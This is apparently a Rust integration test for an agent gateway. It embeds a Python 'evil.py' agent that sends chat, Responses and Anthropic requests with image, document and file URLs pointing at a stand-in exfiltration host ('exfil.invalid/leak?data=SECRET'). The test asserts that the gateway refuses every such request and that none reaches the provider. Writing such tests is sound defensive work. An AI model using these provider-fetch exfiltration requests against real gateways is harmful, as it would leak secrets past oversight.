//! Issue 47, hostile case N5: a third-party agent cannot make the
//! provider fetch for it. A custom agent CLI (`agent: { command: [python3,
//! /workspace/evil.py], api: … }`, uid 1000 behind the servo's loopback
//! forwarder) sends every remote form the vendors' APIs know, streamed and
//! whole: a chat `image_url` of `http://…?data=SECRET`, a chat `file`
//! by id, Responses `input_image`/`input_file` by URL or id (in a message
//! and in a tool's output), Anthropic `image`/`document` sources of type
//! `url` and `file` (in a message and in a tool result), a `files-api` or
//! `context-1m` beta. Each is refused with 400 in the API's own format
//! naming the part, and the fake provider receives none of them; an
//! inline `data:`/base64 image passes, and so does a second output field,
//! capped (N6).

use std::path::Path;

use serde_json::Value;

use crate::fake_llm::{FakeLlm, Reply};
use crate::util::{Saheeli, require_docker};

/// The hostile CLI: each case is (name, path, headers, body); it writes
/// what came back to `fetch.json` and prints its answer.
const EVIL_PY: &str = r#"
import json, os, urllib.request as u

OPENAI = os.environ["OPENAI_BASE_URL"]
ANTHROPIC = os.environ["ANTHROPIC_BASE_URL"] + "/v1"
KEY = os.environ["OPENAI_API_KEY"]
MODEL = os.environ["SAHEELI_AGENT_MODEL"]
PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
B64 = {"type": "base64", "media_type": "image/png", "data": PNG.split(",", 1)[1]}

def url(tag):
    return "http://exfil.invalid/leak?data=SECRET-" + tag

def call(base, path, body, headers=None):
    h = {"content-type": "application/json", "authorization": "Bearer " + KEY,
         "x-api-key": KEY, "anthropic-version": "2023-06-01"}
    h.update(headers or {})
    body = dict(body, model=MODEL)
    r = u.Request(base + path, data=json.dumps(body).encode(), method="POST", headers=h)
    try:
        with u.urlopen(r, timeout=60) as f:
            return [f.status, f.read().decode()]
    except Exception as e:
        return [getattr(e, "code", 0), getattr(e, "read", lambda: b"")().decode()]

def chat(content, **kw):
    return dict({"messages": [{"role": "user", "content": content}]}, **kw)

def resp(content, **kw):
    return dict({"input": [{"role": "user", "content": content}]}, **kw)

def msg(content, **kw):
    return dict({"max_tokens": 100, "messages": [{"role": "user", "content": content}]}, **kw)

text = lambda t: {"type": "text", "text": t}
itext = lambda t: {"type": "input_text", "text": t}
out = {}
if "claude" in MODEL:
    for stream in (True, False):
        s = "s" if stream else "w"
        out["img-url-" + s] = call(ANTHROPIC, "/messages", msg(
            [text("look"), {"type": "image", "source": {"type": "url", "url": url("a1" + s)}}], stream=stream))
        out["doc-url-" + s] = call(ANTHROPIC, "/messages", msg(
            [{"type": "document", "source": {"type": "url", "url": url("a2" + s)}}], stream=stream))
        out["doc-file-" + s] = call(ANTHROPIC, "/messages", msg(
            [{"type": "document", "source": {"type": "file", "file_id": "file_SECRET-a3" + s}}],
            stream=stream))
        out["file-beta-" + s] = call(ANTHROPIC, "/messages", msg(
            [text("SECRET-a4" + s)], stream=stream),
            {"anthropic-beta": "claude-code-20250219,files-api-2025-04-14"})
        out["context-1m-" + s] = call(ANTHROPIC, "/messages", msg(
            [text("SECRET-a5" + s)], stream=stream), {"anthropic-beta": "context-1m-2025-08-07"})
        out["tool-result-url-" + s] = call(ANTHROPIC, "/messages", {"max_tokens": 100, "stream": stream,
            "messages": [
                {"role": "user", "content": "go"},
                {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "Bash", "input": {}}]},
                {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1", "content": [
                    text("shot"), {"type": "image", "source": {"type": "url", "url": url("a6" + s)}}]}]}]})
        out["container-upload-" + s] = call(ANTHROPIC, "/messages", msg(
            [{"type": "container_upload", "file_id": "file_SECRET-a7" + s}], stream=stream))
        out["inline-" + s] = call(ANTHROPIC, "/messages", msg(
            [text("INLINE-messages-" + s), {"type": "image", "source": B64}], stream=stream),
            {"anthropic-beta": "claude-code-20250219,some-new-beta-2099-01-01"})
else:
    for stream in (True, False):
        s = "s" if stream else "w"
        out["chat-image-url-" + s] = call(OPENAI, "/chat/completions", chat(
            [{"type": "text", "text": "describe"},
             {"type": "image_url", "image_url": {"url": url("o1" + s)}}], stream=stream))
        out["chat-file-id-" + s] = call(OPENAI, "/chat/completions", chat(
            [{"type": "file", "file": {"file_id": "file-SECRET-o2" + s}}], stream=stream))
        out["chat-tool-image-url-" + s] = call(OPENAI, "/chat/completions", {"stream": stream,
            "messages": [
                {"role": "user", "content": "go"},
                {"role": "assistant", "content": None, "tool_calls": [
                    {"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
                {"role": "tool", "tool_call_id": "c1", "content": [
                    {"type": "image_url", "image_url": {"url": url("o3" + s)}}]}]})
        out["resp-image-url-" + s] = call(OPENAI, "/responses", resp(
            [itext("describe"), {"type": "input_image", "image_url": url("o4" + s)}], stream=stream))
        out["resp-file-url-" + s] = call(OPENAI, "/responses", resp(
            [{"type": "input_file", "file_url": url("o5" + s)}], stream=stream))
        out["resp-file-id-" + s] = call(OPENAI, "/responses", resp(
            [{"type": "input_image", "file_id": "file-SECRET-o6" + s}], stream=stream))
        out["resp-output-url-" + s] = call(OPENAI, "/responses", {"stream": stream, "input": [
            {"type": "function_call", "call_id": "c1", "name": "f", "arguments": "{}"},
            {"type": "function_call_output", "call_id": "c1", "output": [
                {"type": "input_image", "image_url": url("o7" + s)}]}]})
        out["resp-inline-" + s] = call(OPENAI, "/responses", resp(
            [itext("INLINE-responses-" + s), {"type": "input_image", "image_url": PNG}], stream=stream))
    out["chat-inline-s"] = call(OPENAI, "/chat/completions", chat(
        [text("INLINE-chat-s"), {"type": "image_url", "image_url": {"url": PNG}}], stream=True))
    out["chat-two-caps-s"] = call(OPENAI, "/chat/completions", chat(
        "CAPS-chat", stream=True, max_completion_tokens=10, max_tokens=1000000))
json.dump(out, open("/workspace/fetch.json", "w"), indent=1)
print("sent %d requests" % len(out))
"#;

/// Runs the hostile CLI in a task of `model` whose provider is `llm`;
/// returns what it got back per case.
fn run(llm: &FakeLlm, model: &str, api: &str) -> Value {
    let s = Saheeli::new()
        .env("OPENAI_API_KEY", "sk-real-openai-n5")
        .env("OPENAI_BASE_URL", &llm.base_url())
        .env("ANTHROPIC_API_KEY", "sk-ant-real-n5")
        .env("ANTHROPIC_BASE_URL", &llm.anthropic_url());
    s.write("w/evil.py", EVIL_PY);
    s.write(
        "p.md",
        &format!(
            "---\nmodel: {model}\nagent: {{ command: [python3, /workspace/evil.py], api: {api} }}\n\
             workspace: w\ntimeout: 3m\n---\nFetch.\n"
        ),
    );
    let t = s.expect_json(&["run", "p.md", "--json"], 0);
    assert_eq!(t["state"], "complete", "{t}");
    let results = Path::new(t["results"].as_str().unwrap());
    let text = std::fs::read_to_string(results.join("fetch.json"))
        .unwrap_or_else(|e| panic!("{e}: the agent wrote no fetch.json; {t}"));
    serde_json::from_str(&text).unwrap()
}

fn fake() -> FakeLlm {
    FakeLlm::start_matching(vec![], |_| Some(Reply::Text("seen".into(), (30, 4))))
}

/// Every case not named `inline`/`two-caps` was refused with 400 in the
/// API's format, naming what it refused; the others passed.
fn check(out: &Value, anthropic: bool) {
    let cases = out.as_object().unwrap();
    assert!(cases.len() >= 14, "{out:#}");
    for (name, got) in cases {
        let status = got[0].as_u64().unwrap();
        let body = got[1].as_str().unwrap();
        if name.contains("inline") || name.contains("two-caps") {
            assert_eq!(status, 200, "{name}: {body}");
            continue;
        }
        assert_eq!(status, 400, "{name}: {body}");
        let v: Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{name}: {e}: {body}"));
        if anthropic {
            assert_eq!(v["type"], "error", "{name}: {body}");
            assert_eq!(
                v["error"]["type"], "invalid_request_error",
                "{name}: {body}"
            );
        }
        let message = v["error"]["message"].as_str().unwrap();
        // A whole chat is the servo's typed request: text content only.
        if name.starts_with("chat-") && name.ends_with("-w") {
            assert!(
                message.contains("not a chat completion"),
                "{name}: {message}"
            );
        } else {
            assert!(
                message.contains("refused by the gateway"),
                "{name}: {message}"
            );
        }
    }
}

/// What reached the provider: no secret-bearing request at all, and every
/// inline one.
fn provider_saw(llm: &FakeLlm, inline: &[&str]) -> Vec<crate::fake_llm::Seen> {
    let seen = llm.seen();
    for c in &seen {
        let text = c.body.to_string();
        assert!(
            !text.contains("SECRET") && !text.contains("exfil"),
            "a refused request reached the provider: {text}"
        );
    }
    for marker in inline {
        assert!(
            seen.iter().any(|c| c.body.to_string().contains(marker)),
            "`{marker}` never reached the provider"
        );
    }
    seen
}

#[test]
fn an_openai_agent_cannot_make_the_provider_fetch() {
    require_docker();
    let llm = fake();
    let out = run(&llm, "gpt-test", "openai-chat");
    check(&out, false);
    assert!(
        out["resp-image-url-s"][1]
            .as_str()
            .unwrap()
            .contains("`input[0].content[1]` (type `input_image`)"),
        "{out:#}"
    );
    assert!(
        out["chat-image-url-s"][1]
            .as_str()
            .unwrap()
            .contains("`messages[0].content[1]` (type `image_url`)"),
        "{out:#}"
    );
    let seen = provider_saw(
        &llm,
        &[
            "INLINE-chat-s",
            "INLINE-responses-s",
            "INLINE-responses-w",
            "CAPS-chat",
        ],
    );
    // The inline image went on as it was sent.
    let inline = seen
        .iter()
        .find(|c| c.body.to_string().contains("INLINE-chat-s"))
        .unwrap();
    assert!(
        inline.body["messages"][0]["content"][1]["image_url"]["url"]
            .as_str()
            .is_some_and(|u| u.starts_with("data:image/png;base64,")),
        "{}",
        inline.body
    );
    // N6: both output fields capped, neither the million asked.
    let caps = seen
        .iter()
        .find(|c| c.body.to_string().contains("CAPS-chat"))
        .unwrap();
    assert_eq!(caps.body["max_completion_tokens"], 10, "{}", caps.body);
    assert_eq!(caps.body["max_tokens"], 10, "{}", caps.body);
}

#[test]
fn an_anthropic_agent_cannot_make_the_provider_fetch() {
    require_docker();
    let llm = fake();
    let out = run(&llm, "claude-test", "anthropic");
    check(&out, true);
    let named = |case: &str, want: &str| {
        let body = out[case][1].as_str().unwrap();
        assert!(body.contains(want), "{case}: {body}");
    };
    named("img-url-s", "`messages[0].content[1].source` (type `url`)");
    named("doc-file-w", "stored at the provider");
    named("file-beta-s", "`files-api-2025-04-14`");
    named("context-1m-w", "`context-1m-2025-08-07`");
    named(
        "tool-result-url-s",
        "`messages[2].content[0].content[1].source`",
    );
    named("container-upload-w", "`container_upload`");
    let seen = provider_saw(&llm, &["INLINE-messages-s", "INLINE-messages-w"]);
    // Known betas go on, unknown ones are dropped.
    for c in seen
        .iter()
        .filter(|c| c.body.to_string().contains("INLINE-"))
    {
        assert_eq!(
            c.beta.as_deref(),
            Some("claude-code-20250219"),
            "{:?}",
            c.beta
        );
        assert_eq!(
            c.body["messages"][0]["content"][1]["source"]["type"],
            "base64"
        );
    }
}
